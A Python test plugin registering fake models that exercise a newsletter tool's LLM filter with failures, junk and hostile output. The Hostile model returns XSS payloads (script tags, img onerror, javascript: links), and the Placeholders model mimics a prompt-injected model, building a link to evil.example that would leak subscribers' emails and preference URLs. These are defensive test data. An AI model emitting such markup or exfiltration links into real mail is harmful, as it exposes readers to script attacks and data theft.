"""An ``llm`` plugin with deterministic models, for the tests of the ``llm`` filter.

Registered with ``llm.plugins.pm.register(llm_test_models)`` by the tests, or through an
installed ``llm`` entry point by the command-line test. Every prompt a model receives is
recorded in :data:`PROMPTS` (and appended to ``$NEWSROOM_TEST_LLM_LOG`` when set, for a
model running in another process).

``newsroom-test``
    Answers like a careful model, in Korean: a summary names the item's title (an English
    one by its first words), a title is the source's behind "모델 제목:", a section is
    "none", an intro counts the items, an insight refers to items 1 and 2 (and to an item
    99 that does not exist).
``newsroom-test-raise``
    Raises on every prompt.
``newsroom-test-hang``
    Never answers (until :data:`RELEASE` is set, at the end of the test).
``newsroom-test-junk``
    Answers the same useless text to everything.
``newsroom-test-hostile``
    Answers with markup meant to run in readers' mail programs.
``newsroom-test-flaky``
    Answers junk the first time it is given a prompt, then as ``newsroom-test`` does.
``newsroom-test-placeholders``
    Answers with the sender's per-subscriber placeholders, as a prompt-injected model
    might, hoping to have readers' addresses and links filled in.
"""

from __future__ import annotations

import json
import os
import re
import threading
from typing import Any

import llm

PROMPTS: list[tuple[str, str]] = []
"""``(model id, prompt)`` for every prompt any model here received, in order."""
RELEASE = threading.Event()
"""Set it to let the hanging model return."""

_TITLE = re.compile(r"^Title: (.*)$", re.M)
_HANGUL = re.compile("[가-힣]")
_ITEM = re.compile(r"^\[(\d+)\] \([^)]*\) (.*?):", re.M)


def _record(model_id: str, prompt: str) -> None:
    PROMPTS.append((model_id, prompt))
    log = os.environ.get("NEWSROOM_TEST_LLM_LOG")
    if log:
        with open(log, "a", encoding="utf-8") as out:
            out.write(json.dumps([model_id, prompt], ensure_ascii=False) + "\n")


def careful_answer(prompt: str) -> str:
    """What ``newsroom-test`` answers to one of the llm filter's prompts."""
    if '"trends"' in prompt:
        numbered = _ITEM.findall(prompt)
        first = numbered[0][1] if numbered else "?"
        return (
            "Here is the insight:\n```json\n"
            + json.dumps(
                {
                    "trends": [
                        {
                            "title": "에이전트 경쟁",
                            "text": f"{first} 등이 보여 주는 흐름.",
                            "items": [1, 2],
                        },
                        {"title": "없는 항목", "text": "이 항목은 없다.", "items": [99]},
                    ],
                    "recommendations": [
                        {"action": "watch", "text": "지켜볼 것.", "items": [2]},
                        {"action": "now", "text": "바로 써 볼 것.", "items": [1, 99]},
                    ],
                    "outlook": {"text": "다음 주에도 이어진다.", "items": [1]},
                },
                ensure_ascii=False,
            )
            + "\n```"
        )
    if prompt.startswith("Which of these items report the same story"):
        return 'No two items are one story: {"stories": []}'
    if prompt.startswith("Write the introduction"):
        return f"오늘은 **{len(_ITEM.findall(prompt))}개**의 소식을 전합니다."
    found = _TITLE.search(prompt)
    title = found.group(1) if found else prompt[:40]
    if prompt.startswith("Which section"):
        return "none"
    # In Korean, as a careful model writes for a Korean newsletter: an English title is
    # named by its first words only.
    named = title if _HANGUL.search(title) else f"〈{title[:12]}〉 항목의 한국어"
    if prompt.startswith("Write the title"):
        return f"모델 제목: {named}"
    return f"모델 요약: {named}."


class _Model(llm.Model):
    can_stream = False

    def __init__(self, model_id: str) -> None:
        self.model_id = model_id

    def execute(self, prompt: Any, stream: bool, response: Any, conversation: Any) -> Any:
        _record(self.model_id, prompt.prompt)
        yield self.answer(prompt.prompt, prompt.system or "")

    def answer(self, text: str, system: str) -> str:
        raise NotImplementedError


class Careful(_Model):
    def answer(self, text: str, system: str) -> str:
        if "ECHO" in text:  # a user's own prompt: show exactly what it became
            return f"{text.strip()} | {system}"
        return careful_answer(text)


class Raising(_Model):
    def answer(self, text: str, system: str) -> str:
        raise RuntimeError("the model is overloaded")


class Hanging(_Model):
    def answer(self, text: str, system: str) -> str:
        RELEASE.wait(30)
        return "too late"


class Junk(_Model):
    def answer(self, text: str, system: str) -> str:
        return "Sure! " * 400


class Flaky(_Model):
    def answer(self, text: str, system: str) -> str:
        if PROMPTS.count((self.model_id, text)) == 1:  # recorded just now: the first time
            return "Sure! " * 400
        return careful_answer(text)


class Hostile(_Model):
    def answer(self, text: str, system: str) -> str:
        if '"trends"' in text:
            return json.dumps(
                {
                    "trends": [
                        {
                            "title": "<img src=x onerror=alert(1)>제목",
                            "text": "<script>alert(2)</script>본문 https://evil.example/x",
                            "items": [1],
                        }
                    ],
                    "recommendations": [],
                    "outlook": {"text": "전망", "items": [1]},
                }
            )
        return (
            "<script>alert(1)</script><img src=x onerror=alert(2)>요약 <b>굵게</b> "
            '<a href="javascript:evil()">클릭</a> <a href="https://ok.example/">좋은 링크</a>'
        )


#: Per-subscriber placeholders as they were spelled before they carried a render's key.
BARE_PLACEHOLDERS = (
    "%%subscriber_email%% %%unsubscribe_url%% %%preferences_url%% %%subscriber_name%%"
)


class Placeholders(_Model):
    def answer(self, text: str, system: str) -> str:
        steal = "https://evil.example/model?e=%%subscriber_email%%&p=%%preferences_url%%"
        if '"trends"' in text:
            return json.dumps(
                {
                    "trends": [
                        {"title": "추세", "text": f"본문 {BARE_PLACEHOLDERS}", "items": [1]}
                    ],
                    "recommendations": [],
                    "outlook": {"text": f"전망 {BARE_PLACEHOLDERS}", "items": [1]},
                },
                ensure_ascii=False,
            )
        return f'요약 {BARE_PLACEHOLDERS} <a href="{steal}">설정 바꾸기</a>'


MODELS = {
    "newsroom-test": Careful,
    "newsroom-test-raise": Raising,
    "newsroom-test-hang": Hanging,
    "newsroom-test-junk": Junk,
    "newsroom-test-hostile": Hostile,
    "newsroom-test-flaky": Flaky,
    "newsroom-test-placeholders": Placeholders,
}


@llm.hookimpl
def register_models(register: Any) -> None:
    for model_id, cls in MODELS.items():
        register(cls(model_id))
